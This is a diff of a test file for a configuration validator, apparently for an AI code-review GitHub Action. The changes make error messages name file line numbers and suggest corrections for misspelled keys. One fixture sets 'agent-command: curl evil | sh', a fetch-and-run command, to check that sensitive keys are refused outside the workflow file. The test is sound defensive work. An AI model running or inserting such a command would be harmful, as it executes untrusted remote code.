@@ -87,7 +87,7 @@ describe('resolveConfig', () => {
     expect(problemsOf(() => resolve({ mode: 'fix' }, null))[0]).toMatch(/^Input "verify" is required with mode: fix: /);
     // mode from the file: the message names where it came from.
     expect(problemsOf(() => resolve({}, 'defaults:\n  mode: fix\n'))[0]).toContain(
-      `with mode: fix (${FILE}: defaults.mode)`,
+      `with mode: fix (${FILE}:2: defaults.mode)`,
     );
   });
 
@@ -120,26 +120,67 @@ describe('resolveConfig', () => {
   it('names the file and the key when a value from the file is bad', () => {
     const text = 'defaults:\n  max-rounds: eleven\npresets:\n  p:\n    dry-run: maybe\n';
     expect(problemsOf(() => resolve({ preset: 'p', mode: 'nope' }, text))).toEqual([
+      `${FILE}:2: defaults.max-rounds must be a whole number from 1 to 10; got "eleven". Example: max-rounds: 3`,
+      `${FILE}:5: presets.p.dry-run must be true or false; got "maybe". Example: dry-run: true`,
       'Input "mode" must be one of fix, review; got "nope". Example: mode: review',
-      `${FILE}: defaults.max-rounds must be a whole number from 1 to 10; got "eleven". Example: max-rounds: 3`,
-      `${FILE}: presets.p.dry-run must be true or false; got "maybe". Example: dry-run: true`,
     ]);
   });
 
-  it('uses the config-file input as the name in messages', () => {
-    const problems = problemsOf(() => resolve({ 'config-file': 'ci/review.yml' }, 'defaults: {max-round: 3}'));
+  it('names the line of each key with a problem, all of them at once, at any depth', () => {
+    const text = [
+      '# yaml-language-server: $schema=…', // 1
+      'defaults:', // 2
+      '  max-rounds: 3', // 3
+      '  fail-on: P5', // 4
+      'presets:', // 5
+      '  strict:', // 6
+      '    reviewers:', // 7
+      '      - claude:claude-sonnet-4-5', // 8
+      '    confirm: [P0, P1]', // 9
+      '    isolation: off', // 10
+      '  quick: { max-rounds: 0, inline-comments: sometimes }', // 11
+      'hooks:', // 12
+      '  after-fix: ./lint.sh', // 13
+      '  befor-review: ./x.sh', // 14
+      '',
+    ].join('\n');
+    expect(problemsOf(() => parseRepoConfig(text, FILE))).toEqual([
+      `${FILE}:4: defaults.fail-on must be one of none, P0, P1, P2; got "P5". Example: fail-on: P1`,
+      `${FILE}:9: presets.strict.confirm must be one of none, P0, P1; got "P0\\nP1". Example: confirm: P1`,
+      `${FILE}:10: presets.strict.isolation can only be set in the workflow file, as an input`,
+      `${FILE}:11: presets.quick.max-rounds must be a whole number from 1 to 10; got "0". Example: max-rounds: 3`,
+      `${FILE}:11: presets.quick.inline-comments must be true or false; got "sometimes". ` +
+        'Example: inline-comments: true',
+      `${FILE}:14: hooks.befor-review is not a known key (known: before-review, after-review, after-fix, after-finish)`,
+    ]);
+    // A value only the merged inputs can judge names its line too: the preset's reviewer entry.
+    // A preset's name may hold dots: the line is still its key's.
+    const merged = 'presets:\n  v1.2:\n    mode: review\n    reviewers: [a, b, c, d, e, f]\n';
+    expect(problemsOf(() => resolve({ preset: 'v1.2' }, merged))).toEqual([
+      expect.stringMatching(
+        new RegExp(`^${FILE.replace(/\./g, '\\.')}:4: presets\\.v1\\.2\\.reviewers must list 1 to 5`),
+      ),
+    ]);
+  });
+
+  it('uses the config-file input as the name in messages, and names the input a key misspells', () => {
+    const text = 'defaults: {max-round: 3, colour: red}';
+    const problems = problemsOf(() => resolve({ 'config-file': 'ci/review.yml' }, text));
     expect(problems).toEqual([
-      'ci/review.yml: defaults.max-round is not an action input (see the inputs in docs/configuration.md)',
+      'ci/review.yml:1: defaults.max-round is not an action input; did you mean max-rounds? ' +
+        '(see the inputs in docs/configuration.md)',
+      'ci/review.yml:1: defaults.colour is not an action input (see the inputs in docs/configuration.md)',
     ]);
   });
 
   it('refuses keys that are not inputs, at every level', () => {
     const text = 'defualts: {}\npresets:\n  a:\n    reviewer: x\nhooks:\n  before-fix: x\npaths:\n  only: [a]\n';
     expect(problemsOf(() => resolve({}, text))).toEqual([
-      `${FILE}: presets.a.reviewer is not an action input (see the inputs in docs/configuration.md)`,
-      `${FILE}: hooks.before-fix is not a known key (known: before-review, after-review, after-fix, after-finish)`,
-      `${FILE}: paths.only is not a known key (known: include, exclude)`,
-      `${FILE}: defualts is not a known key (known: presets, defaults, hooks, instructions, rules-file, paths)`,
+      `${FILE}:1: defualts is not a known key (known: presets, defaults, hooks, instructions, rules-file, paths)`,
+      `${FILE}:4: presets.a.reviewer is not an action input; did you mean reviewers? ` +
+        '(see the inputs in docs/configuration.md)',
+      `${FILE}:6: hooks.before-fix is not a known key (known: before-review, after-review, after-fix, after-finish)`,
+      `${FILE}:8: paths.only is not a known key (known: include, exclude)`,
     ]);
   });
 
@@ -147,9 +188,9 @@ describe('resolveConfig', () => {
     const text =
       'defaults:\n  github-token: x\n  allow-fork-fixes: true\npresets:\n  p:\n    agent-command: curl evil | sh\n';
     expect(problemsOf(() => resolve({}, text))).toEqual([
-      `${FILE}: presets.p.agent-command can only be set in the workflow file, as an input`,
-      `${FILE}: defaults.github-token can only be set in the workflow file, as an input`,
-      `${FILE}: defaults.allow-fork-fixes can only be set in the workflow file, as an input`,
+      `${FILE}:2: defaults.github-token can only be set in the workflow file, as an input`,
+      `${FILE}:3: defaults.allow-fork-fixes can only be set in the workflow file, as an input`,
+      `${FILE}:6: presets.p.agent-command can only be set in the workflow file, as an input`,
     ]);
   });
 
@@ -161,10 +202,10 @@ describe('resolveConfig', () => {
   });
 
   it('reports wrong shapes in plain words', () => {
-    expect(problemsOf(() => parseRepoConfig('- a\n- b\n', FILE))).toEqual([`${FILE}: the top level must be a map`]);
+    expect(problemsOf(() => parseRepoConfig('- a\n- b\n', FILE))).toEqual([`${FILE}:1: the top level must be a map`]);
     expect(problemsOf(() => parseRepoConfig('hooks:\n  after-fix: {run: x}\ninstructions: [a]\n', FILE))).toEqual([
-      `${FILE}: hooks.after-fix must be a string or a list of strings`,
-      `${FILE}: instructions must be a string`,
+      `${FILE}:2: hooks.after-fix must be a string or a list of strings`,
+      `${FILE}:3: instructions must be a string`,
     ]);
   });
 
@@ -173,7 +214,7 @@ describe('resolveConfig', () => {
     expect(parseRepoConfig('rules-file: RULES.md\n', FILE).rulesFile).toBe('RULES.md');
     expect(parseRepoConfig('rules-file: ""\n', FILE).rulesFile).toBe('');
     expect(problemsOf(() => parseRepoConfig('rules-file: docs/REVIEW.md\n', FILE))).toEqual([
-      `${FILE}: rules-file is a file name, not a path (e.g. REVIEW.md)`,
+      `${FILE}:1: rules-file is a file name, not a path (e.g. REVIEW.md)`,
     ]);
   });
 
